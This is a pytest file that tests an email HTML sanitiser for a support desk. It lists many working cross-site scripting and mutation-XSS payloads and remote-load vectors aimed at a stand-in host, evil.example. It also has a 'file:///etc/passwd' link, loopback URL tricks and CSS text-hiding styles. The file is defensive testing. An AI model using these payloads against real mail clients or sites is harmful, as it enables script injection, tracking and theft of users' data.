"""What a hostile mail may do on an agent's screen: nothing, told by reading the result again."""

import re
import time
from typing import Final
from urllib.parse import urlsplit

import pytest
from hypothesis import given
from hypothesis import strategies as st
from selectolax.lexbor import LexborHTMLParser, LexborNode

from adapters.email.mime.sanitise import TAGS, leads_home, sanitise

OURS: Final = frozenset({"help.example.org", "127.0.0.1"})
PICTURES: Final = {"logo@shop.example": "0123abcd-4"}

RUNS: Final = {
    "script": "<script>steal()</script>",
    "script in capitals": "<ScRiPt SRC=//evil.example/x.js></sCrIpT>",
    "script never closed": "<script src=https://evil.example/x.js",
    "script closed within": "<scr<script>ipt>steal()</scr</script>ipt>",
    "script after a null": "<scr\0ipt>steal()</script>",
    "handler": '<p onclick="steal()">text</p>',
    "handler in capitals": "<p ONMOUSEOVER=steal()>text</p>",
    "handler behind a slash": "<img/src/onerror=steal()>",
    "handler of a broken picture": '<img src=x: onerror="steal()">',
    "handler in a quote that ends early": '<img alt="a"onerror="steal()">',
    "handler behind a line break": '<p\n\x0confocus\n=\n"steal()" autofocus tabindex=1>text</p>',
    "handler of an animation": "<b onanimationstart=steal() style='animation: x 1s'>text</b>",
    "handler of details": "<details open ontoggle=steal()>text</details>",
    "handler of the body": '<body onload="steal()">text</body>',
    "handler with a backtick": "<img alt=`a`onerror=steal()``>",
    "svg that loads": '<svg onload="steal()"><circle r="3"/></svg>',
    "svg with a script": "<svg><script>steal()</script></svg>",
    "svg that animates a link": (
        '<svg><a><animate attributeName=href values="javascript:steal()"/><text>x</text></a></svg>'
    ),
    "svg that uses another": '<svg><use href="data:image/svg+xml,<svg id=x onload=steal()>#x"/>',
    "svg with a foreign object": "<svg><foreignObject><img src=x onerror=steal()></foreignObject>",
    "mathml with a link": '<math href="javascript:steal()"><mtext>text</mtext></math>',
    "mathml whose source is text": (
        '<math><annotation-xml encoding="text/html"><img src=x onerror=steal()></annotation-xml>'
    ),
    "mutation through a style in mathml": (
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;"
        "&lt;img src=1 onerror=steal()&gt;'>"
    ),
    "mutation through forms in mathml": (
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=steal()>"
    ),
    "mutation through a title in svg": (
        '<svg></p><title><style></title><img title="</style><img src onerror=steal()>">'
    ),
    "mutation through noscript": (
        '<noscript><p title="</noscript><img src=x onerror=steal()>"></noscript>'
    ),
    "mutation through a template": "<template><s><template><s><img src=x onerror=steal()>x</s>",
    "mutation through a text area": '<textarea><b title="</textarea><img onerror=steal()>">',
    "mutation through an unknown raw text": "<xmp><p title='</xmp><img src=x onerror=steal()>'>",
    "mutation through a listing": "<listing>&lt;img onerror=steal()&gt;</listing>",
    "mutation through a comment": "<!--><img src=x onerror=steal()>-->",
    "mutation through a comment that ends oddly": "<!-- --!><img src=x onerror=steal()> -->",
    "mutation through CDATA": "<![CDATA[<img src=x onerror=steal()>]]>",
    "mutation through a table": "<table><td><script>steal()</td></table><img onerror=steal()>",
    "mutation through a select": "<select><option><style></select><img src onerror=steal()>",
    "conditional comment": "<!--[if gte mso 9]><script>steal()</script><![endif]-->",
    "processing instruction": "<?xml version='1'?><img src=x onerror=steal()?>",
    "link that runs": '<a href="javascript:steal()">link</a>',
    "link that runs, split by a tab": '<a href="java\tscript:steal()">link</a>',
    "link that runs, behind a control": '<a href="\x01javascript:steal()">link</a>',
    "link that runs, as entities": "<a href='&#106;avascript&colon;steal()'>link</a>",
    "link that runs, by VBScript": '<a href="vbscript:steal()">link</a>',
    "link that carries its page": '<a href="data:text/html,<script>steal()</script>">link</a>',
    "link to a blob": '<a href="blob:https://help.example.org/1">link</a>',
    "link to a file": '<a href="file:///etc/passwd">link</a>',
    "picture that runs": '<img src="javascript:steal()">',
    "form": '<form action="https://evil.example"><input name=p><button>Go</button></form>',
    "form around a link": '<form><button formaction="javascript:steal()">Go</button></form>',
    "picture that sends": '<input type="image" src="https://evil.example/x.png" onerror=steal()>',
    "refresh": '<meta http-equiv="refresh" content="0; url=https://evil.example">',
    "base": '<base href="https://evil.example/"><a href="x">link</a>',
    "frame": '<iframe src="https://evil.example"></iframe>',
    "frame with its page inside": '<iframe srcdoc="<script>steal()</script>"></iframe>',
    "object": '<object data="https://evil.example/x.swf"><param name=src></object>',
    "embed": '<embed src="https://evil.example/x.swf">',
    "portal": '<portal src="https://evil.example"></portal>',
    "names that shadow the page's": '<a id="desk" name="location">x</a><img name="body">',
    "classes of the page": '<div class="toast button primary" id="toast">Signed out</div>',
    "link in this window": '<a href="https://shop.example" target="_top">link</a>',
    "link that knows its opener": '<a href="https://shop.example" rel="opener">link</a>',
}

ASKS: Final = {
    "picture": '<img src="https://evil.example/pixel.gif" width=1 height=1>',
    "picture without a scheme": '<img src="//evil.example/pixel.gif">',
    "picture beside this page": '<img src="/v1/conversations">',
    "picture of ours": '<img src="https://help.example.org/v1/files">',
    "picture of another mail": '<img src="cid:other@shop.example">',
    "picture inside itself": '<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">',
    "picture in several sizes": '<img srcset="https://evil.example/a.png 1x" sizes="100vw">',
    "picture with a choice": '<picture><source srcset="//evil.example/a.webp"><img></picture>',
    "background": '<table background="https://evil.example/a.png"><td>x</td></table>',
    "background of a cell": '<table><td background="//evil.example/a.png">x</td></table>',
    "style with a picture": '<p style="background:url(https://evil.example/a.png)">x</p>',
    "style with a quoted picture": "<p style='background-image:url(\"//evil.example\")'>x</p>",
    "style with an escaped picture": r'<p style="background:\75\72\6c(//evil.example)">x</p>',
    "style with a comment": '<p style="background:u/**/rl(//evil.example)">x</p>',
    "style with a set of pictures": "<p style=\"background:image-set('//evil.example' 1x)\">x</p>",
    "style with a list's picture": '<ul style="list-style:url(//evil.example/a.png)"><li>x</ul>',
    "style with a pointer": '<p style="cursor:url(//evil.example/a.cur),auto">x</p>',
    "style with content": '<p style="content:url(//evil.example/a.png)">x</p>',
    "style with a filter": '<p style="filter:url(//evil.example/a.svg#f)">x</p>',
    "style that runs": '<p style="width:expression(steal())">x</p>',
    "style with a binding": '<p style="-moz-binding:url(//evil.example/a.xml#x)">x</p>',
    "style sheet": "<style>@import url(https://evil.example/a.css);</style>",
    "style sheet elsewhere": '<link rel="stylesheet" href="https://evil.example/a.css">',
    "asking for a name": '<link rel="dns-prefetch" href="//evil.example">',
    "font elsewhere": "<style>@font-face{font-family:x;src:url(//evil.example/a.woff)}</style>",
    "sound": '<audio src="https://evil.example/a.ogg" autoplay></audio>',
    "film with a picture": '<video poster="https://evil.example/a.png"><source src=x></video>',
    "track": '<video><track src="https://evil.example/a.vtt" default></video>',
    "picture of a vector": '<svg><image href="https://evil.example/a.png"/></svg>',
    "ping of a link": '<a href="https://shop.example" ping="https://evil.example">link</a>',
    "manifest": '<html manifest="https://evil.example/a.mf"><body>x</body></html>',
    "attribution": '<a href="https://shop.example" attributionsrc="https://evil.example">x</a>',
    "long description": '<img longdesc="https://evil.example" lowsrc="https://evil.example/a.png">',
    "old frames": '<frameset><frame src="https://evil.example"></frameset>',
    "old layers": '<layer src="https://evil.example"></layer><ilayer src="//evil.example"/>',
    "old background sound": '<bgsound src="https://evil.example/a.mid">',
}

HIDES: Final = {
    "above the page": "position:fixed;top:0;left:0",
    "off the page": "position:absolute;left:-9999px",
    "moved out": "margin-left:-5000px",
    "indented out": "text-indent:-9999px",
    "moved by transform": "transform:translate(-999px)",
    "not shown": "display:none",
    "not visible": "visibility:hidden",
    "see-through": "opacity:0",
    "see-through colour": "color:rgba(0,0,0,0)",
    "see-through hex": "color:#fff0",
    "see-through word": "color:transparent",
    "of no size": "font-size:0",
    "of one pixel": "font-size:1px",
    "of no line": "line-height:0",
    "of no height": "height:0;max-height:0;overflow:hidden",
    "huge": "font-size:900px",
    "huge in other words": "font-size:90em",
    "wider than all": "width:99999px",
    "above all": "z-index:99999",
    "cut away": "clip-path:inset(50%)",
}

EVERYTHING: Final = {**RUNS, **ASKS}
_ATTRIBUTES: Final = (
    "style dir lang title align href src alt width height color size face bgcolor start type border"
    " cellpadding cellspacing valign colspan rowspan span target rel"
)
ATTRIBUTES: Final = frozenset(_ATTRIBUTES.split())


def nodes(html: str) -> list[LexborNode]:
    """Everything that a browser would find in it."""
    return [node for node in LexborHTMLParser(html).css("body *") if node.tag]


def faults(html: str) -> list[str]:
    """What there is in it that is more than words and their dress."""
    found = []
    for node in nodes(html):
        if node.tag not in TAGS:
            found.append(f"element {node.tag}")
        for name, value in node.attributes.items():
            if name not in ATTRIBUTES:
                found.append(f"attribute {name}")
            if name == "src" and not (value or "").startswith("cid:0123abcd-"):
                found.append(f"source {value}")
            if name == "href" and urlsplit(value or "").scheme not in LINKS:
                found.append(f"link {value}")
            if name == "style" and re.search(r"[\\/(@]|position|display", unrounded(value or "")):
                found.append(f"style {value}")
        if node.tag == "a" and (node.attributes.get("target"), node.attributes.get("rel")) != SAFE:
            found.append("a link that opens here")
    return found


LINKS: Final = {"http", "https", "mailto", "tel"}
SAFE: Final = ("_blank", "noopener noreferrer nofollow")


def unrounded(style: str) -> str:
    """Without the one kind of brackets that is harmless."""
    return re.sub(r"(rgb|hsl)a?\([\d\s.,%]*\)", "", style)


@pytest.mark.parametrize("name", EVERYTHING)
def test_nothing_runs_and_nothing_is_asked_for(name: str) -> None:
    """Everyone who opens a hostile mail: a script would act as them, a picture tells on them."""
    safe = sanitise(f"<p>before</p>{EVERYTHING[name]}<p>after</p>", own_hosts=OURS)

    assert faults(safe) == []
    assert "before" in LexborHTMLParser(safe).text()


@pytest.mark.parametrize("name", EVERYTHING)
def test_cleaning_twice_is_cleaning_once(name: str) -> None:
    """What changes when it is read again could turn into something else in a browser."""
    once = sanitise(EVERYTHING[name], own_hosts=OURS)

    again = sanitise(once, own_hosts=OURS)

    assert again == once


@pytest.mark.parametrize("name", HIDES)
def test_words_are_where_they_can_be_read(name: str) -> None:
    """Agents decide by what they read: hidden words are meant for somebody else, or for filters."""
    safe = sanitise(f'<p style="{HIDES[name]};font-weight:bold">text</p>')

    assert safe == '<p style="font-weight:bold">text</p>'


@pytest.mark.parametrize(
    "style",
    [
        "color:#c0362c;background-color:rgb(255, 250, 240)",
        "font-family:Arial, 'Noto Sans';font-size:14px;line-height:1.5",
        "border:1px solid #dfe3e8;padding:12px 16px;border-radius:8px",
        "text-align:center;direction:rtl;white-space:pre-wrap",
    ],
)
def test_the_dress_of_a_letter_stays(style: str) -> None:
    assert sanitise(f'<p style="{style}">text</p>') == f'<p style="{style}">text</p>'


def test_a_letter_keeps_its_ground_and_its_direction() -> None:
    """White words were written on a dark ground, and Arabic begins on the right."""
    safe = sanitise(
        '<html><body dir="rtl" bgcolor="#101010" style="color:#fff">مرحبا</body></html>'
    )

    assert '<div dir="rtl" bgcolor="#101010" style="color:#fff">مرحبا</div>' in safe


def test_a_picture_of_the_mail_is_named_by_its_attachment() -> None:
    html = '<img src="cid:logo@shop.example" alt="Logo"><img src="CID:other" alt="Other">'

    safe = sanitise(html, pictures=PICTURES)

    assert safe == '<img src="cid:0123abcd-4" alt="Logo"><img alt="Other">'


def test_a_remote_picture_stands_there_by_its_words() -> None:
    """Nobody is told that it was read, and the agent sees that something was there."""
    safe = sanitise('<img src="https://shop.example/sale.png" alt="Sale" width="600">')

    [picture] = nodes(safe)
    assert picture.attributes == {"alt": "Sale", "width": "600"}


@pytest.mark.parametrize(
    "url",
    [
        "https://help.example.org/v1/conversations",
        "HTTPS://HELP.EXAMPLE.ORG./",
        "https://help.example.org:8443/files/x",
        "https://ｈｅｌｐ.example.org/",
        "https://somebody@help.example.org/",
        "https://help.example.org\\@shop.example/",
        "https://help%2eexample.org/",
        "ht\ntps://help.example.org/",
        "http://127.0.0.1:8080/v1/live",
        "http://127.1/",
        "http://2130706433/",
        "http://0x7f000001/",
        "http://localhost:8080/",
        "http://desk.localhost/",
        "http://[::1]:8080/",
        "http://[::ffff:127.0.0.1]/",
        "http://0.0.0.0/",
        "https:///help.example.org/",
        "https:help.example.org",
    ],
)
def test_no_link_leads_to_this_installation(url: str) -> None:
    """A mail must not make an agent's browser ask our own API for something."""
    [link] = nodes(sanitise(f'<a href="{url}">link</a>', own_hosts=OURS))

    assert "href" not in link.attributes
    assert leads_home(url, OURS)


@pytest.mark.parametrize(
    "url",
    [
        "https://shop.example/p?a=1&b=2#top",
        "https://müller.example/straße",
        "http://192.0.2.7/",
        "https://help.example.org.shop.example/",
        "mailto:mei@example.org?subject=Order",
        "tel:+85255550100",
    ],
)
def test_other_links_lead_where_they_led(url: str) -> None:
    [link] = nodes(sanitise(f'<a href="{url.replace("&", "&amp;")}">link</a>', own_hosts=OURS))

    assert link.attributes["href"] == url


_PIECES: Final = st.sampled_from(
    [*EVERYTHING.values(), "<", ">", '"', "'", "<!--", "-->", "</style>", "<svg>", "</p>", "<math>"]
)


@given(st.lists(_PIECES, max_size=8).map("".join))
def test_however_they_are_put_together_nothing_runs(html: str) -> None:
    safe = sanitise(html, own_hosts=OURS)

    assert faults(safe) == []


def test_a_long_letter_is_cleaned_before_anyone_waits() -> None:
    """The intake reads hundreds of mails a minute; the target is 40 ms for 111 KB."""
    cell = (
        '<tr><td style="font-family:Arial;font-size:14px;padding:10px" bgcolor="#ffffff">'
        '<a href="https://shop.example/p/{0}"><img src="https://img.example/{0}.png" alt="{0}"></a>'
        "<br>Item {0} costs 12 and comes <b>soon</b></td></tr>"
    )
    html = f"<table>{''.join(cell.format(n) for n in range(600))}"[:111_000]

    spent = []
    for _ in range(5):
        began = time.process_time()
        sanitise(html, own_hosts=OURS)
        spent.append(time.process_time() - began)

    assert min(spent) < 0.12  # three times the target: machines differ
